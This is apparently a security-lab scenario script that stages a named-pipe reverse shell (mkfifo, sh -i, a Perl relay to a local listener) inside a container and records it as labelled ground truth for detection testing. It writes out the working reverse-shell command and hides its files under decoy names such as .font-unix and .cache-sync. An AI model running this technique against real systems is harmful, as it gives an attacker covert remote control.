#!/bin/bash
# Scenario fifoshell: a reverse shell built from a named pipe and a relay, so
# that the shell holds no socket of its own:
#   mkfifo F; sh -i < F 2>&1 | relay HOST:PORT > F
# The relay (a Perl copy loop) holds the TCP connection to a fake attacker on
# the host, which runs a few commands through it.
# Usage: lab/scenarios/fifoshell.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init fifoshell "$@"

REV=127.46.8.2:8443
FIFO=/var/tmp/.font-unix
RELAY=/usr/local/lib/.cache-sync
lab_template "$SPEC/relay.pl" "$WORK/relay.pl"

lab_shell_listener "$REV" 'id|hostname|cat /etc/hostname'

lab_run --env APP_ENV=prod --hostname report-gen -- sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_cp "$WORK/relay.pl" "$RELAY" 0700
lab_exec_bg "rm -f $FIFO; mkfifo $FIFO; sh -i < $FIFO 2>&1 | perl $RELAY $REV > $FIFO"
lab_wait_shell_done

lab_finish "$RELAY"

cat >"$WORK/params.json" <<PEOF
{"listener": "$REV", "fifo": "$FIFO", "relay_path": "$RELAY",
 "command": "mkfifo $FIFO; sh -i < $FIFO 2>&1 | perl $RELAY $REV > $FIFO"}
PEOF
lab_truth --description "named-pipe reverse shell: sh -i reads a fifo and writes a pipe to a Perl relay connected to $REV" \
    --params "$WORK/params.json"
